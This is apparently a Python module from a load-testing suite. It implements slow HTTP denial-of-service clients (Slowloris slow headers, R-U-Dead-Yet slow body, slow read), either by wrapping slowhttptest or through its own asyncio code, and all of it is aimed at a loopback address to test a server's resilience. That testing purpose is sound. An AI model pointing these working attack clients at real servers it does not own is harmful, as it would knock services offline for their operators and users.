"""The clients that mean harm: slowhttptest where it is installed, else those of this module (`python -m` runs them).

Each kind holds a connection for as long as the edge lets it, for as little work as it can.
"""

from __future__ import annotations

import asyncio
import os
import socket
import sys
from contextlib import suppress
from enum import StrEnum
from typing import Final, assert_never

import uvloop

from loadtests.bench.processes import LOOPBACK, find_program
from loadtests.slow.good import HOST

PROGRAM: Final = "slowhttptest"
_ALL: Final = os.sched_getaffinity(0)
_LAST: Final = max(_ALL) if len(_ALL) > 1 else 0
_INTERVAL: Final = 5.0  # seconds between two signs of life; slowhttptest, by default 10, sends them all at once
_PER_SECOND: Final = 250  # connections that are begun: what is measured is slowness, not a flood
LARGE: Final = "/large"
UPLOAD: Final = "/upload"


class Kind(StrEnum):
    HEAD = "slow head"  # a field line every second, never the last (Slowloris)
    BODY = "slow body"  # a long body is announced, and comes octet by octet (R-U-Dead-Yet)
    READ = "slow read"  # a large answer is asked for, and taken by a receive window of next to nothing


def command_of(kind: Kind, port: int, connections: int, seconds: int, *, own: bool) -> tuple[str, ...]:
    """A program that attacks for so long. `own`: this module's, though the other is installed."""
    program = None if own else find_program(PROGRAM)
    if program is None:
        return (*elsewhere(), sys.executable, "-m", __name__, kind, str(port), str(connections), str(seconds))
    proxied = ("-d", f"{LOOPBACK}:{port}")  # the host's name never leaves this machine
    often = ("-c", str(connections), "-r", str(_PER_SECOND), "-l", str(seconds), "-p", "30")
    return (*elsewhere(), program, *_mode(kind), *proxied, *often)


def _mode(kind: Kind) -> tuple[str, ...]:
    interval = str(int(_INTERVAL))
    match kind:
        case Kind.HEAD:
            return ("-H", "-i", interval, "-x", "24", "-u", f"http://{HOST}/page")
        case Kind.BODY:
            return ("-B", "-i", interval, "-x", "10", "-s", "8192", "-u", f"http://{HOST}{UPLOAD}")
        case Kind.READ:
            return ("-X", "-n", interval, "-w", "512", "-y", "1024", "-z", "32", "-u", f"http://{HOST}{LARGE}")
        case _:
            assert_never(kind)


def elsewhere() -> tuple[str, ...]:
    """What a command begins with to run on this machine's last processor. Attackers are other machines' in truth, and
    slowhttptest burns a whole processor once its connections are gone, which is nobody's slowness.
    """
    taskset = find_program("taskset")
    return () if taskset is None or _LAST == 0 else (taskset, "--cpu-list", str(_LAST))


def stay_here() -> None:
    """Keep this process, and those that it starts from now on, off the attackers' processor."""
    if elsewhere():
        os.sched_setaffinity(0, _ALL - {_LAST})


# -- the attackers of this module -----------------------------------------------------------------------------------


async def attack(kind: Kind, port: int, connections: int, seconds: float) -> None:
    """Hold so many connections; one that the edge ends is begun again."""
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for number in range(connections):
                group.create_task(_attack_on_and_on(kind, port))
                if number % 25 == 24:
                    await asyncio.sleep(25 / _PER_SECOND)


async def _attack_on_and_on(kind: Kind, port: int) -> None:
    while True:
        with suppress(OSError):
            await _attack_once(kind, port)
        await asyncio.sleep(_INTERVAL)


async def _attack_once(kind: Kind, port: int) -> None:
    loop = asyncio.get_running_loop()
    with socket.socket() as sock:
        sock.setblocking(False)
        if kind is Kind.READ:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        await loop.sock_connect(sock, (LOOPBACK, port))
        await loop.sock_sendall(sock, opening_of(kind))
        while True:
            await asyncio.sleep(_INTERVAL)
            if kind is Kind.READ:
                if not await loop.sock_recv(sock, 32):
                    return
            else:
                await loop.sock_sendall(sock, b"X-a: b\r\n" if kind is Kind.HEAD else b"a")


def opening_of(kind: Kind) -> bytes:
    """What a connection begins with."""
    match kind:
        case Kind.HEAD:
            return f"GET /page HTTP/1.1\r\nHost: {HOST}\r\n".encode()
        case Kind.BODY:
            return f"POST {UPLOAD} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 8192\r\n\r\n".encode()
        case Kind.READ:
            return f"GET {LARGE} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
        case _:
            assert_never(kind)


if __name__ == "__main__":
    uvloop.run(attack(Kind(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
